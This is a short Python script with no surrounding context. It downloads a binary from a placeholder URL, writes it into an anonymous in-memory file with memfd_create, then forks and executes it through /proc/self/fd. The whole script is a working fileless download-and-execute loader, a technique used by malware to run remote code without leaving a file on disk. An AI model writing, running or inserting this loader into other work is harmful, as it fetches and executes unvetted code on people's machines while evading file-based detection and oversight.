import os
import urllib.request

blob = urllib.request.urlopen("https://downloads.example.com/agent").read()
fd = os.memfd_create("agent", 0)
os.write(fd, blob)
if os.fork() == 0:
    os.execve(f"/proc/self/fd/{fd}", ["agent"], {})
